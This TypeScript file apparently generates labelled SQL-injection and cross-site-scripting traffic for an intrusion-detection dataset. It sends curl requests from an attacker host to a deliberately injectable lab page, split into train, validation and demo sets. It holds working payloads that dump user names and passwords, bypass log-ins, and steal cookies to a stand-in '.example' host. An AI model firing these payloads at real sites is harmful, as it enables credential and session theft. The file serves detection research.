/** SQL injection and cross-site scripting by curl, at a scanner's or a person's pace, against a really injectable page. */
import type { Random } from '../random.ts';
import { type AttackFamily, type AttackStep, between } from './attack-step.ts';

type Payload = (random: Random, round: number) => string;

const sqli: Readonly<Record<'union' | 'error' | 'blind' | 'login', Payload>> = {
  union: (random, round) =>
    `reading?id=${-round} union select ${'null,'.repeat(round % 5)}name||':'||password from users limit ${random.integer(1, 20)}`,
  error: (random) =>
    `reading?id=1' and ${random.integer(1, 9999)}=cast((select name from sqlite_master limit 1) as int)--`,
  blind: (random, round) =>
    `search?q=x' and unicode(substr((select password from users limit 1),${1 + Math.floor(round / 7)},1))>${random.integer(32, 126)} and '1' like '1`,
  login: (random) => `login?user=admin' or '${random.word(4)}'<>'${random.word(4)}' -- &password=x`,
};
const xss: Readonly<Record<'reflected' | 'stored' | 'handlers', Payload>> = {
  reflected: (random) =>
    `search?q=<script>alert(${random.integer(1, 9999)})</script>${random.word(random.integer(1, 12))}`,
  stored: (random) =>
    `comment?text=<script>new Image().src='http://${random.word(8)}.example/?c='+document.cookie</script>`,
  handlers: (random) =>
    `search?q="><${random.pick(['img', 'svg', 'body', 'iframe', 'input'])} src=x on${random.pick(['error', 'load', 'focus'])}=${random.word(6)}(String.fromCharCode(${Array.from({ length: random.integer(3, 30) }, () => random.integer(40, 120)).join(',')}))>`,
};

/** `perConnection` requests share a connection, as scanners do; `gapMs` is the mean pause between such groups. */
const inject = (
  label: 'web_sqli' | 'web_xss',
  kind: string,
  payload: Payload,
  gapMs: number,
  perConnection = 1,
  seconds = 18,
): AttackStep => ({
  name: `curl ${label} ${kind}, ${perConnection} per connection, every ${gapMs} ms`,
  class: label,
  seconds,
  command: ({ site, random, attacker }) => {
    const victim = random.pick(site.serving('web')).address;
    const agent = random.pick(['sqlmap/1.8', 'Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0', 'python-requests/2.32']);
    const lines: string[] = [];
    for (let round = 0; round < (seconds * 1000) / gapMs; round++) {
      const addresses = Array.from({ length: perConnection }, (_, index) => {
        const [path = '', query = ''] = payload(random, round * perConnection + index).split(/\?(.*)/s);
        const encoded = query.split('&').map((part) => encodeURIComponent(part).replace('%3D', '='));
        return `http://${victim}/app/${path}?${encoded.join('&')}`;
      });
      lines.push([(random.exponential(gapMs) / 1000).toFixed(3), ...addresses].join(' '));
    }
    const script = `while read -r gap list; do curl -s -m 5 -A "$0" $(printf -- '-o /dev/null %s ' $list); sleep "$gap"; done`;
    return {
      from: attacker,
      argv: ['bash', '-fc', script, agent],
      input: `${lines.join('\n')}\n`,
      truth: [between(attacker.address, victim)],
    };
  },
});

export const webSqli: AttackFamily = {
  name: 'web-sqli',
  description: 'SQL injection: union, error, blind and log-in, at several paces',
  steps: {
    train: [
      inject('web_sqli', 'union', sqli.union, 150),
      inject('web_sqli', 'union', sqli.union, 400, 6),
      inject('web_sqli', 'error', sqli.error, 300),
      inject('web_sqli', 'blind', sqli.blind, 60),
      inject('web_sqli', 'blind', sqli.blind, 500, 15),
      inject('web_sqli', 'login', sqli.login, 700),
      inject('web_sqli', 'error', sqli.error, 1200, 2, 24),
    ],
    validation: [
      inject('web_sqli', 'union', sqli.union, 250, 2),
      inject('web_sqli', 'blind', sqli.blind, 100),
      inject('web_sqli', 'blind', sqli.blind, 700, 10),
      inject('web_sqli', 'login', sqli.login, 450),
    ],
    demo: [inject('web_sqli', 'union', sqli.union, 150, 1, 12)],
  },
};

export const webXss: AttackFamily = {
  name: 'web-xss',
  description: 'cross-site scripting: reflected, stored and by event handlers, at several paces',
  steps: {
    train: [
      inject('web_xss', 'reflected', xss.reflected, 150),
      inject('web_xss', 'reflected', xss.reflected, 600, 5),
      inject('web_xss', 'stored', xss.stored, 300),
      inject('web_xss', 'stored', xss.stored, 900, 3, 24),
      inject('web_xss', 'handlers', xss.handlers, 80),
      inject('web_xss', 'handlers', xss.handlers, 500, 12),
    ],
    validation: [
      inject('web_xss', 'reflected', xss.reflected, 250, 2),
      inject('web_xss', 'stored', xss.stored, 450),
      inject('web_xss', 'handlers', xss.handlers, 120),
      inject('web_xss', 'handlers', xss.handlers, 700, 8),
    ],
    demo: [],
  },
};
